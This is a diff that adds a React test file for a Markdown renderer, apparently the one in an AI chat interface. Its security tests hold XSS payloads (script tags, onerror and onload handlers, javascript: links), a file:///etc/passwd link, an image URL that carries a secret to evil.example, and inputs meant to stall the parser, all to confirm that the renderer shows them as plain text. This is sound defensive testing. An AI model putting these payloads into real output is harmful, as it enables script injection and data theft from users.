@@ -1,0 +1,115 @@
+import { cleanup, render, screen } from "@testing-library/react";
+import { afterEach, describe, expect, it } from "vitest";
+import { Markdown } from "./Markdown.js";
+
+afterEach(cleanup);
+const show = (text: string, streaming = false) => render(<Markdown text={text} streaming={streaming} />).container;
+
+describe("Markdown", () => {
+  it("draws GitHub's Markdown", () => {
+    const page = show("# A\n\n**b** ~~c~~\n\n| x |\n| - |\n| 1 |\n\n- [x] done");
+    expect(page.querySelector("h1")?.textContent).toBe("A");
+    expect(page.querySelector("strong")?.textContent).toBe("b");
+    expect(page.querySelector("del")?.textContent).toBe("c");
+    expect(page.querySelector("td")?.textContent).toBe("1");
+    expect(page.querySelector<HTMLInputElement>("input[type=checkbox]")?.checked).toBe(true);
+  });
+
+  it("closes what is still open while it streams", () => {
+    const page = show("a **bold", true);
+    expect(page.querySelector("strong")?.textContent).toBe("bold");
+    expect(page.textContent).not.toContain("*");
+  });
+
+  it("finds a link's address in a later block", () => {
+    show("See [the book][1].\n\nMore.\n\n[1]: https://example.com/book");
+    expect(screen.getByRole("link", { name: "the book" }).getAttribute("href")).toBe("https://example.com/book");
+  });
+
+  it("keeps the nodes of finished blocks while more comes", () => {
+    const { container, rerender } = render(<Markdown text={"one\n\ntwo"} streaming />);
+    const first = container.querySelector("p");
+    rerender(<Markdown text={"one\n\ntwo three\n\nfour"} streaming />);
+    expect(container.querySelector("p")).toBe(first);
+    expect(container.textContent).toContain("two three");
+  });
+
+  it("appends to the growing text node, so that a selection in it lives", () => {
+    const { container, rerender } = render(<Markdown text="Once upon" streaming />);
+    const node = container.querySelector("p span")?.firstChild;
+    rerender(<Markdown text="Once upon a time" streaming />);
+    expect(container.querySelector("p span")?.firstChild).toBe(node);
+    rerender(<Markdown text="Once upon a time" streaming={false} />);
+    expect(container.querySelector("p span")?.firstChild).toBe(node);
+    expect(node?.textContent).toBe("Once upon a time");
+  });
+
+  it("names the language of code and copies no more than the code", () => {
+    const page = show("```ts\nlet a = 1;\n```");
+    expect(page.querySelector("figcaption")?.textContent).toContain("ts");
+    expect(page.querySelector("pre")?.textContent).toBe("let a = 1;\n");
+    expect(screen.getByRole("button", { name: "Copy code" })).toBeDefined();
+  });
+});
+
+describe("[T19] what a model may not do", () => {
+  it("shows raw HTML as text", () => {
+    const page = show('<img src=x onerror="alert(1)"> <svg onload=alert(1)>\n\n<script>alert(1)</script>');
+    expect(page.querySelector("img, svg[onload], script")).toBeNull();
+    expect(page.textContent).toContain("<script>alert(1)</script>");
+  });
+
+  it.each([
+    "javascript:alert(1)",
+    "data:text/html,x",
+    "vbscript:x",
+    "file:///etc/passwd",
+    "//evil.example",
+    "/c/1",
+    "JaVaScRiPt:alert(1)",
+  ])("makes no link of %s", (address) => {
+    const page = show(`[words](${address})`);
+    expect(page.querySelector("a")).toBeNull();
+    expect(page.textContent).toBe("words");
+  });
+
+  it("opens links apart from the page", () => {
+    show("[words](https://example.com)");
+    const link = screen.getByRole("link", { name: "words" });
+    expect([link.getAttribute("rel"), link.getAttribute("target")]).toEqual(["noopener noreferrer", "_blank"]);
+  });
+
+  it.each(["![a](https://evil.example/?q=secret)", "![a][1]\n\n[1]: https://evil.example/x"])(
+    "loads no image: %s",
+    (text) => {
+      const page = show(text);
+      expect(page.querySelector("img")).toBeNull();
+      expect(page.textContent).toContain("evil.example");
+    },
+  );
+
+  it("takes no markup from a code fence's language", () => {
+    const page = show('```"><img/src=x/onerror=alert(1)>\ncode\n```');
+    expect(page.querySelector("img")).toBeNull();
+    expect(page.querySelector("pre")?.textContent).toBe("code\n");
+  });
+});
+
+describe("[T23] text that keeps parsers busy", () => {
+  it.each([
+    ["brackets", "[".repeat(10_000)],
+    ["image openers", "![".repeat(5000)],
+    ["quotes", "> ".repeat(5000)],
+    ["lists", `${"- ".repeat(3000)}a`],
+    ["a long line", "a".repeat(1_000_000)],
+    ["emphasis", "*a ".repeat(10_000)],
+    ["underscores", "_a__b".repeat(5000)],
+    ["links", "[a](".repeat(5000)],
+    ["indented lists", Array.from({ length: 300 }, (_, depth) => `${" ".repeat(depth * 2)}- a`).join("\n")],
+  ])("shows %s as plain text, soon", (_name, text) => {
+    const startedMs = performance.now();
+    expect(show(text).textContent?.length).toBeGreaterThanOrEqual(text.trim().length);
+    // A stall would take many seconds; this only says that there is none.
+    expect(performance.now() - startedMs).toBeLessThan(2000);
+  });
+});
